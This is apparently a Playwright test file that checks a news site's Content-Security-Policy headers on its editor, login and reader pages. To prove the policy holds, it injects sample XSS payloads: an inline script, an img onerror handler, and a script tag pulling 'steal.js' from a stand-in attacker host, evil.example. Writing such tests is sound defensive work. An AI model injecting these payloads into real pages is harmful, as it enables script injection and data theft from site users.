import { expect, test, type Page } from "@playwright/test";
import { bodyEditor, signInAs } from "./editor-helpers";

// The Content-Security-Policy choice (lib/http/security-headers.ts), held to what it promises in
// a real browser: the editor area and /login carry a nonce policy under which no injected script
// runs, inline or from elsewhere, and nothing may frame them; reader pages carry a static policy
// (no nonce, so they stay cached for everyone) under which no script from another origin runs;
// and no page of either kind trips its own policy.

/**
 * Violations the page reports, from the first script of every document loaded after this call:
 * a library probing for eval while its module loads (zod does) trips the policy before any
 * test code could listen, and Chrome reports that only as an issue and this event, not on the
 * console.
 */
async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener("securitypolicyviolation", (e) => w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  return () => page.evaluate(() => (window as unknown as { __violations?: string[] }).__violations ?? []);
}

test("the editor: a nonce policy under which an injected script does not run, and the editor still works", async ({ page }) => {
  const errors: string[] = [];
  page.on("console", (m) => m.type() === "error" && errors.push(m.text()));
  await signInAs(page, "editor", "/editor/articles/new");
  const response = await page.goto("/editor/articles/new");
  const csp = response!.headers()["content-security-policy"] ?? "";
  expect(csp).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/=]{16,}' 'sha256-[A-Za-z0-9+/=]{44}' 'strict-dynamic'/);
  expect(csp).toContain("frame-ancestors 'none'");
  expect(csp).toContain("object-src 'none'");
  expect(response!.headers()["x-frame-options"]).toBe("DENY");
  // A fresh nonce each time.
  const again = await page.request.get("/editor/articles/new");
  expect(again.headers()["content-security-policy"]).not.toBe(csp);

  // What a hole in the sanitizer would let through: markup with an inline script, a script from
  // elsewhere and an inline handler, parsed as part of the page (the server's HTML is rewritten
  // on its way to the browser, as stored markup would arrive).
  await page.route("**/editor/articles/new", async (route) => {
    const original = await route.fetch();
    const html = (await original.text()).replace(
      "</body>",
      `<script>window.__pwned = "inline"</script><script src="https://evil.example/steal.js"></script><img src="data:," onerror="window.__pwned = 'handler'"></body>`,
    );
    await route.fulfill({ response: original, body: html });
  });
  const blocked: string[] = [];
  page.on("console", (m) => /Content Security Policy/i.test(m.text()) && blocked.push(m.text()));
  await page.goto("/editor/articles/new");
  await expect.poll(() => blocked.length).toBeGreaterThanOrEqual(3);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
  await page.unroute("**/editor/articles/new");

  // Next's own scripts run (they carry the nonce): the rich-text editor takes typing.
  errors.length = 0;
  const violations = await watchViolations(page);
  await page.goto("/editor/articles/new");
  await bodyEditor(page).click();
  await page.keyboard.insertText("정책 아래에서도 입력됩니다");
  await expect(bodyEditor(page)).toContainText("정책 아래에서도 입력됩니다");
  expect(errors.filter((e) => /Content Security Policy/i.test(e))).toEqual([]);
  // No editor page trips its own policy while it loads: the forms' code included.
  for (const path of ["/editor/articles/new", "/editor/schedule/new", "/editor/account", "/editor"]) {
    await page.goto(path, { waitUntil: "load" });
    expect(await violations(), path).toEqual([]);
  }
});

test("/login is never framed and works under its nonce policy", async ({ page }) => {
  const response = await page.goto("/login");
  expect(response!.headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
  expect(response!.headers()["x-frame-options"]).toBe("DENY");
  await signInAs(page, "reporter", "/editor");
  await expect(page).toHaveURL(/\/editor$/);
});

test("reader pages: a static policy that keeps them cacheable and other origins' scripts out", async ({ page, request }) => {
  const errors: string[] = [];
  page.on("console", (m) => m.type() === "error" && errors.push(m.text()));
  for (const path of ["/", "/board/news", "/search?q=%EC%B6%95%EC%A0%9C"]) {
    const response = await request.get(path);
    const headers = response.headers();
    expect(headers["content-security-policy"], path).toContain("script-src 'self' 'unsafe-inline'");
    expect(headers["content-security-policy"], path).not.toContain("nonce-");
    expect(headers["content-security-policy"], path).toContain("object-src 'none'");
    expect(headers["x-content-type-options"], path).toBe("nosniff");
    expect(headers["referrer-policy"], path).toBe("strict-origin-when-cross-origin");
  }
  // The article page is still rendered once and served from the cache, policy and all.
  const id = await (async () => {
    const html = await (await request.get("/board/news")).text();
    return /href="\/article\/(\d+)"/.exec(html)![1];
  })();
  await request.get(`/article/${id}`);
  const cached = await request.get(`/article/${id}`);
  expect(cached.headers()["x-nextjs-cache"]).toBe("HIT");
  expect(cached.headers()["content-security-policy"]).toContain("frame-ancestors 'self'");

  const violations = await watchViolations(page);
  // Loading the home page and the article trips nothing of the page's own.
  await page.goto("/");
  await page.waitForLoadState("networkidle");
  expect(await violations()).toEqual([]);
  await page.goto(`/article/${id}`);
  await page.waitForLoadState("networkidle");
  expect(await violations()).toEqual([]);
  // Even a script already running cannot load code from another origin here.
  await page.evaluate(() => {
    const remote = document.createElement("script");
    remote.src = "https://evil.example/steal.js";
    document.body.appendChild(remote);
  });
  await expect.poll(violations).toEqual([expect.stringMatching(/^script-src.*evil\.example/)]);
  // The page itself (hydration, the view beacon, the login dialog) trips nothing.
  await page.waitForLoadState("networkidle");
  expect(errors.filter((e) => /Content Security Policy/i.test(e) && !/evil\.example/.test(e))).toEqual([]);
});
